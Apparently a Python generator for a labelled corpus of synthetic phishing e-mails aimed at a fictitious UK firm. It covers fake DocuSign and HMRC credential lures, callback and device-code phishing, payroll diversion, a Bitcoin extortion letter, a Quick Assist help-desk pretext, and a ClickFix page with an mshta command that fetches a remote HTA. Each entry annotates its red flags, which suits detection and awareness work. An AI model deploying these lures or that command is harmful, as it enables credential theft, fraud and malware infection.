"""Attack messages, English (8)."""
import infra as I
import kit as K
import facts as F
import checks as C
from company import S
from util import rng_for

EX_UK_VAT = C.gb_vat("3318204")


def M(**kw):
    kw.setdefault("lang", "en")
    return kw


DOCUSIGN_BTN = ("display:inline-block;padding:12px 26px;background:#ffc820;color:#1e1e1e;text-decoration:none;"
                "font-family:Arial,sans-serif;font-size:15px;font-weight:bold;border-radius:2px")


def a09():
    p = S["ukmgr"]
    text = """Gareth Hughes sent you a document to review and sign.

[[!REVIEW DOCUMENT|https://envelope-review.nfc-docs.workers.dev/s/?e=%s&env=7c1e44b2-09d3-4a8f-b5e2-61d90c7f1a3e]]

**Gareth Hughes**
gareth.hughes@northfield-construction.co.uk

James,

Please review and sign the revised hire agreement for Dudley Road Phase 2 (scaffold hire extension to 31 March 2027 and revised weekly rates). We need it back today so that our QS can release the October valuation.

Kind regards,
Gareth

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

About Docusign
Sign documents electronically in just minutes. It's safe, secure, and legally binding.
""" % p.addr
    return M(
        slug="docusign-lookalike-workers-dev",
        what="Fake DocuSign envelope 'from' a real customer contact (Northfield Construction) asking to review a revised hire agreement.",
        why="Sent through Amazon SES from the look-alike domain docuslgn-mail.com (l instead of i); the button goes to a Cloudflare Workers page (envelope-review.nfc-docs.workers.dev) carrying the recipient's address, not to docusign.net; real envelopes come from dse@eumail.docusign.net. Credential phishing abusing a genuine hosting service.",
        to=p, frm=("Gareth Hughes via Docusign", "dse@docuslgn-mail.com"),
        subject="Complete with Docusign: Northfield_ExampleGroup_Hire_Agreement_DudleyRd_Ph2.pdf",
        when=(10, 15, 14, 3), zone="UK",
        infra=lambda c: I.ses(c, "eu-west-1"),
        body=K.alt(text, "utf-8", "quoted-printable", "mail", "en", title="Docusign", button=DOCUSIGN_BTN),
    )


def a10():
    text = """HM Revenue & Customs

Dear Customer,

VAT Registration Number: %s
Business name: Example Group Access Ltd
Return period: 09/26 (1 July 2026 to 30 September 2026)

Your VAT return for the period above could not be processed because the digital link between your Making Tax Digital software and your business tax account has expired.

To avoid a late submission penalty point and interest on any VAT due, you must re-authorise your software connection by 6 November 2026.

[[Re-authorise your MTD connection|https://www.gov-uk.vat-mtd-services.uk/business-account/reauthorise?vrn=331820417]]

You will need your Government Gateway user ID and password.

This is an automated message. Please do not reply to this email.

HM Revenue and Customs
""" % EX_UK_VAT
    return M(
        slug="hmrc-mtd-vat-reauthorise",
        what="Fake HMRC notice: the VAT return 09/26 'could not be processed', re-authorise Making Tax Digital with Government Gateway credentials.",
        why="Sent from a compromised plumbing firm's cPanel webmail; link to the look-alike gov-uk.vat-mtd-services.uk (not gov.uk); HMRC does not send links asking for Government Gateway credentials. Tax-office credential phishing with penalty pressure.",
        to=S["ukacc"], frm=("HM Revenue & Customs", "noreply@crossley-plumbing.co.uk"),
        subject="Action required: VAT return 09/26 not processed", quote=True,
        when=(10, 29, 7, 40), zone="UK",
        infra=lambda c: I.exim_cpanel(c, "uk-shared14.host-ukserve.net", "185.151.30.147", client_ip="102.88.34.19", helo="[10.0.2.15]",
                                      mailer_name=None),
        body=K.alt(text, "utf-8", "quoted-printable", "mail", "en", title="HMRC",
                   button="display:inline-block;padding:8px 16px;background:#00703c;color:#fff;text-decoration:none"),
    )


def a11():
    r = rng_for("a11")
    lines = ["# INVOICE", "Microsoft 365 Business Premium - Annual Subscription", "---",
             "Invoice number: MS-447192-UK          Date: 04 November 2026",
             "Customer: Oliver Bennett              Payment method: Card on file (ending 4417)", "",
             "Description                                   Qty        Amount",
             "Microsoft 365 Business Premium (annual)       25     GBP 1,541.66",
             "VAT 20%                                                 GBP 308.33",
             "Total charged                                        GBP 1,849.99", "",
             "Your subscription has been renewed automatically and the amount above will be debited",
             "within 24 hours.", "",
             "## Did not authorise this renewal?",
             "To cancel and receive a full refund, call our billing department within 24 hours:",
             "## +44 20 3769 4412  (Mon-Sat 8:00-20:00)", "",
             "Refunds cannot be processed by email. Please have this invoice number ready.", ]
    text = """Hello Oliver,

Thank you for your order. Your invoice for the automatic renewal of your subscription is attached.

Order number: MS-447192-UK
Amount: GBP 1,849.99

If you did not authorise this renewal, please call our billing team on +44 20 3769 4412 within 24 hours to cancel. Refunds cannot be processed by email.

Regards,
Billing Department
"""
    return M(
        slug="callback-toad-m365-renewal",
        what="Callback phishing (TOAD): fake GBP 1,849.99 Microsoft 365 renewal invoice (PDF) asking to phone a 'billing department' to cancel.",
        why="No link and no malware, only a phone number: the call centre talks the victim into installing remote-access software or 'refund' transfers. Sent from a throw-away Gmail account; Microsoft never bills from Gmail, and the invoice is addressed to a person with no such subscription.",
        to=S["uksales"], frm=("Billing Department", "renewals.billing.dept4417@gmail.com"),
        subject="Your Order MS-447192-UK has been processed",
        when=(11, 4, 9, 18), zone="UK",
        infra=lambda c: I.gmail(c),
        body=K.mixed(K.plain(text, "utf-8", "7bit", label="UTF-8"),
                     K.pdf_att("Invoice_MS-447192-UK.pdf", lines, producer="Microsoft: Print To PDF", creator="", created="D:20261104091122+00'00'")),
    )


def a12():
    text = """Hi Oliver,

Thanks for the call this morning. Could you join the short design review with our structural engineer at 14:30 today? We need your sign-off on the tie pattern for the east elevation before the adaption goes up tomorrow.

Our Teams is locked down for external guests at the moment, so please join through the secure device sign-in:

1. Go to [[https://microsoft.com/devicelogin|https://microsoft.com/devicelogin]]
2. Enter the code: **HQ7M4XKZP**
3. Sign in with your Example Group account and the meeting will open.

The code expires after 15 minutes, so please do this just before 14:30.

Thanks,
Hannah

Hannah Price
Senior Project Manager
Harcourt Facilities Management Ltd
M: 07700 914 386
"""
    return M(
        slug="device-code-teams-review",
        what="Device-code phishing: a customer contact asks to 'join a Teams design review' by entering a code at microsoft.com/devicelogin.",
        why="Sent from a genuinely compromised customer Exchange Online tenant (harcourt-fm.co.uk). Entering the attacker-generated code at the real Microsoft page grants the attacker OAuth tokens for the victim's account (Storm-2372 technique); genuine Teams invitations never require a device code. The link is legitimate, so only the requested action reveals the attack.",
        to=S["uksales"], frm=("Hannah Price", "hannah.price@harcourt-fm.co.uk"),
        subject="Scaffold design review - Dudley Road (Teams) 14:30",
        when=(11, 12, 11, 52), zone="UK",
        infra=lambda c: I.exo(c, lang="en-GB"),
        body=K.alt(text, "utf-8", "quoted-printable", "outlook", "en"),
    )


def a13():
    page = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Just a moment...</title>
<style>body{font-family:-apple-system,Segoe UI,Roboto,Arial,sans-serif;background:#fff;color:#313131;margin:0}
.w{max-width:620px;margin:90px auto;padding:0 20px}.c{border:1px solid #e0e0e0;border-radius:4px;padding:22px;margin:26px 0;background:#fafafa}
code{display:block;background:#1e1e1e;color:#e6e6e6;padding:10px;font-size:12px;word-break:break-all}</style></head>
<body><div class="w">
<h1 style="font-size:28px;font-weight:500">www.ellison-archdesign.co.uk</h1>
<p style="font-size:18px">Verify you are human by completing the action below.</p>
<div class="c">
<p><b>Verification steps</b></p>
<ol>
<li>Press <b>Windows Button</b> + <b>R</b></li>
<li>Press <b>CTRL</b> + <b>V</b></li>
<li>Press <b>Enter</b></li>
</ol>
<p style="font-size:12px;color:#666">The verification code has been copied to your clipboard:</p>
<code>mshta https://cdn.drawings-preview.com/v/captcha-2847.hta # I am not a robot - reCAPTCHA Verification ID: 2847</code>
</div>
<p style="font-size:13px">After verification the drawing set GA_DudleyRd_Ph2_RevC (14 sheets, PDF) will open automatically.</p>
<p style="font-size:12px;color:#999">Performance &amp; security by Cloudflare</p>
</div></body></html>
"""
    text = """Hi James,

Please find attached the revised GA drawings (Rev C) for Dudley Road Phase 2, incl. the new loading bay and the amended tie layout on gridlines 4-7.

The set is too large for email so it opens in our secure viewer.

Regards,
Mark Ellison
Ellison Architectural Design
"""
    return M(
        slug="clickfix-html-drawings",
        what="ClickFix: an architect's 'revised GA drawings' HTML attachment shows a fake human-verification page that tells the user to paste and run a command (Win+R, Ctrl+V, Enter).",
        why="Sent from a compromised small architecture practice (cPanel webmail, login from a foreign IP); the HTML instructs the victim to run 'mshta https://cdn.drawings-preview.com/...' - the user executes the malware loader himself. Here the page has no script (the clipboard step is inert), the command is shown as text only.",
        to=S["ukmgr"], frm=("Mark Ellison", "mark@ellison-archdesign.co.uk"),
        subject="Revised GA drawings - Rev C (Dudley Road, Phase 2)",
        when=(11, 18, 15, 27), zone="UK",
        infra=lambda c: I.exim_cpanel(c, "cp-uk7.krystal-web.net", "77.72.0.183", client_ip="41.216.188.72", helo="[192.168.0.104]",
                                      mailer_name=None),
        body=K.mixed(K.alt(text, "utf-8", "quoted-printable", "thunderbird", "en"),
                     K.att(page, "text/html", "GA_DudleyRd_Ph2_RevC_viewer.html")),
    )


def a14():
    text = """Hi Anja,

I've recently switched banks and would like my salary from this month onwards to be paid into my new account. Could you please update my details before the November payroll run?

New account details:
Bank: Monzo Bank Ltd
Account name: Priya Sharma
Sort code: 04-00-75
Account number: 41739265

Please could you confirm once it's been changed? I'm out at client sites most of this week so email is the best way to reach me.

Many thanks,
Priya
"""
    return M(
        slug="payroll-diversion-private-mail",
        what="Payroll diversion: 'Priya Sharma' (UK accountant) writes to HQ payroll from a private Outlook.com address asking to pay her salary into a new account.",
        why="Personal address never used before for HR matters, display name of a real employee, request to change salary bank details by e-mail only, 'e-mail is best, I'm out all week' to avoid a call-back; new account at a neobank. Classic payroll BEC; genuine changes go through the HR self-service with verification.",
        to=S["hr"], frm=("Priya Sharma", "priya.sharma.uk@outlook.com"),
        subject="Change of bank details before payroll",
        when=(11, 16, 8, 2), zone="UK",
        infra=lambda c: I.exo(c, consumer=True, lang="en-GB"),
        body=K.alt(text, "iso-8859-1", "quoted-printable", "outlook", "en"),
    )


def a15():
    addr = S["uksales"].addr
    text = """Hello!

I have to share bad news with you.
Several months ago I gained access to the devices you use to browse the internet. After that I was able to track all of your internet activity.

Here is how it happened: I bought access to a large number of e-mail accounts from hackers (today it is very simple to buy such data online). One of the passwords I got is the one you still use: Sc4ff0ld!2019
Using it I easily logged in to your e-mail account and installed a hidden program on your device.

I have collected your contacts, your messages and the recordings from your webcam. With one click I can send all of this to your colleagues, your clients and your family.

I think 1450 USD is a fair price to make sure this never happens.
Pay in Bitcoin (if you don't know how, search "buy bitcoin" in Google).
My Bitcoin wallet (BTC): %s

You have 48 hours from the moment you open this e-mail. I will know when you have read it. Once I receive the payment I will delete everything and you will never hear from me again.
Do not reply to this e-mail, it was sent from your own account. Do not go to the police, I will know.
""" % F.BTC_EXTORTION
    return M(
        slug="extortion-bitcoin-spoofed-self",
        what="Extortion ('hacked your device') e-mail demanding USD 1,450 in Bitcoin, spoofed to look as if sent from the victim's own address.",
        why="From and To are the recipient's own address but the mail comes from a compromised Brazilian web server (Exim); quotes an old breached password as 'proof'; threat, deadline, bech32 Bitcoin address (valid checksum). Mass extortion scam.",
        to=S["uksales"], frm=(None, addr), to_header=addr,
        subject=addr, when=(11, 21, 3, 14), zone="UTC",
        envelope=addr,
        infra=lambda c: I.exim_cpanel(c, "server1.imobiliariavale.com.br", "177.70.98.211", php=True, script="imobvale", mailer_name=None),
        body=K.plain(text, "us-ascii", "7bit", label="us-ascii"),
    )


def a16():
    p = S["ukacc"]
    text = """Hi Priya,

Our monitoring has detected that your mailbox %s has been subscribed to several hundred newsletter and contact-form lists in the last hour (mail bombing). We are blocking the incoming messages now, but the subscriptions have to be removed on your device as well.

To complete the clean-up, an engineer from the Service Desk will contact you within the next 15 minutes via Microsoft Teams (external chat, "Example Group Help Desk").

Please:
- accept the chat request,
- start Quick Assist when asked (press Ctrl + Windows + Q) and give the engineer the 6-digit code,
- do not restart your laptop until the process is finished.

This will take about 10 minutes. Apologies for the inconvenience.

Kind regards
IT Service Desk
Example Group
""" % p.addr
    return M(
        slug="teams-helpdesk-quick-assist-pretext",
        what="Help-desk vishing pretext: after a (simulated) mail-bombing, 'IT Service Desk' announces a Teams chat from an external tenant and asks the user to start Quick Assist.",
        why="Sent from an attacker-created Microsoft 365 trial tenant (examplegroupit.onmicrosoft.com), not from example.com; prepares a Teams call in which the 'engineer' takes over the laptop through Quick Assist (Storm-1811 / Black Basta playbook). Example Group IT never contacts users from external Teams tenants.",
        to=p, frm=("Example Group IT Service Desk", "servicedesk@examplegroupit.onmicrosoft.com"),
        subject="Mailbox protection: spam flood detected on your account",
        when=(12, 2, 10, 9), zone="UK",
        infra=lambda c: I.exo(c, lang="en-GB"),
        body=K.alt(text, "utf-8", "quoted-printable", "outlook", "en"),
    )


def build():
    return [a09(), a10(), a11(), a12(), a13(), a14(), a15(), a16()]
